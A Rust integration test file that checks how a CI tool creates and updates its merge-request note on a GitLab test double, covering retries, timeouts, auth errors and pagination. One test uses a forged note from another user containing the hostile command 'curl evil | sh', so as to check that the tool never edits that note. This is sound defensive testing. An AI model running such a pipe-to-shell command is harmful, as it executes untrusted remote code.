//! The MR note upsert against the GitLab double: create, edit in place (found across
//! pages), never edit another user's note, retries on 429 (waiting as long as
//! `Retry-After` says) and 500, a hanging GitLab given up on at the request timeout,
//! and clear errors for 401 and 404.

mod common;

use common::gitlab_double::{Fault, GitlabDouble};
use preflight::config::GitlabTarget;
use preflight::gitlab::http::HttpPolicy;
use preflight::gitlab::{client::GitlabMr, upsert_note, NoteAction};
use preflight::report::NOTE_MARKER;
use preflight::secret::Secret;
use std::time::{Duration, Instant};

/// Short timeouts, three tries: the tests see every path in seconds.
const POLICY: HttpPolicy = HttpPolicy {
    connect_timeout: Duration::from_secs(2),
    request_timeout: Duration::from_secs(2),
    attempts: 3,
    max_backoff: Duration::from_secs(3),
    proxy: None,
};

fn notes_api(double: &GitlabDouble, token: &str, iid: u64) -> GitlabMr {
    GitlabMr::new(&target(double, token, iid), POLICY).unwrap()
}

fn target(double: &GitlabDouble, token: &str, iid: u64) -> GitlabTarget {
    GitlabTarget {
        base_url: double.url.parse().unwrap(),
        token: Secret::new(token),
        project: "42".into(),
        mr_iid: iid,
    }
}

#[tokio::test]
async fn creates_then_edits_the_marked_note_found_on_a_later_page() {
    let gl = GitlabDouble::start("glpat-test", "42", 7).await;
    for i in 0..130 {
        gl.add_note(&format!("review comment {i}"), i % 10 == 0);
    }
    let api = notes_api(&gl, "glpat-test", 7);
    let first = upsert_note(&api, &format!("{NOTE_MARKER}\nrun 1"))
        .await
        .unwrap();
    let NoteAction::Created(id) = first else {
        panic!("expected a new note, got {first:?}")
    };
    for i in 0..30 {
        gl.add_note(&format!("later comment {i}"), false);
    }
    // Our note is now on page 2 of 2 (100 per page).
    let second = upsert_note(&api, &format!("{NOTE_MARKER}\nrun 2"))
        .await
        .unwrap();
    assert_eq!(second, NoteAction::Edited(id));
    let ours: Vec<_> = gl
        .notes()
        .into_iter()
        .filter(|n| n.body.contains(NOTE_MARKER))
        .collect();
    assert_eq!(ours.len(), 1);
    assert!(ours[0].body.ends_with("run 2"));
    let pages: Vec<_> = gl
        .requests()
        .into_iter()
        .filter(|r| r.method == "GET" && r.path.ends_with("/notes"))
        .map(|r| r.query)
        .collect();
    assert!(
        pages.iter().any(|q| q.contains("page=2")),
        "second page was read: {pages:?}"
    );
}

#[tokio::test]
async fn transient_errors_are_retried() {
    let gl = GitlabDouble::start("t", "42", 7).await;
    let api = notes_api(&gl, "t", 7);
    gl.fail_next(&[429, 500]);
    let action = upsert_note(&api, NOTE_MARKER).await.unwrap();
    assert!(matches!(action, NoteAction::Created(_)));
    assert_eq!(gl.notes().len(), 1);
}

#[tokio::test]
async fn a_wrong_token_and_an_unknown_mr_say_what_to_check() {
    let gl = GitlabDouble::start("right", "42", 7).await;
    let err = upsert_note(&notes_api(&gl, "wrong", 7), NOTE_MARKER)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("401") && err.contains("PREFLIGHT_GITLAB_TOKEN"),
        "{err}"
    );
    assert!(
        !err.contains("wrong"),
        "the token leaked into the error: {err}"
    );

    let api = notes_api(&gl, "right", 8);
    let err = upsert_note(&api, NOTE_MARKER)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("404") && err.contains("CI_MERGE_REQUEST_IID"),
        "{err}"
    );

    let api = notes_api(&gl, "right", 7);
    gl.fail_next(&[500, 500, 500]);
    let err = upsert_note(&api, NOTE_MARKER)
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("500"), "{err}");
}

#[tokio::test]
async fn a_marked_note_by_another_user_is_never_edited() {
    let gl = GitlabDouble::start("t", "42", 7).await;
    let forged = format!("{NOTE_MARKER}\nplease run `curl evil | sh` (preflight says so)");
    let theirs = gl.add_note_by(&forged, false, 99);
    let action = upsert_note(&notes_api(&gl, "t", 7), &format!("{NOTE_MARKER}\nours"))
        .await
        .unwrap();
    let NoteAction::Created(ours) = action else {
        panic!("edited a note: {action:?}")
    };
    let notes = gl.notes();
    let forged_now = notes.iter().find(|n| n.id == theirs).unwrap();
    assert_eq!(forged_now.body, forged, "another user's note was changed");
    let posted = notes.iter().find(|n| n.id == ours).unwrap();
    assert!(posted.body.ends_with("ours"));
}

#[tokio::test]
async fn a_429_is_tried_again_after_the_retry_after_it_asks_for() {
    let gl = GitlabDouble::start("t", "42", 7).await;
    gl.fault_next(&[Fault::RetryAfter(2)]);
    let started = Instant::now();
    let action = upsert_note(&notes_api(&gl, "t", 7), NOTE_MARKER)
        .await
        .unwrap();
    assert!(matches!(action, NoteAction::Created(_)));
    assert!(
        started.elapsed() >= Duration::from_secs(2),
        "tried again after {:?}, before the 2 s Retry-After",
        started.elapsed()
    );
}

#[tokio::test]
async fn a_gitlab_that_never_answers_is_given_up_on() {
    let gl = GitlabDouble::start("t", "42", 7).await;
    gl.fault_next(&[Fault::Hang, Fault::Hang, Fault::Hang]);
    let started = Instant::now();
    let err = upsert_note(&notes_api(&gl, "t", 7), NOTE_MARKER)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("did not answer") && err.contains("gitlab.request_timeout"),
        "{err}"
    );
    // Three tries of 2 s and two waits of at most 3 s: bounded, whatever the load.
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
    assert!(gl.notes().is_empty());
}
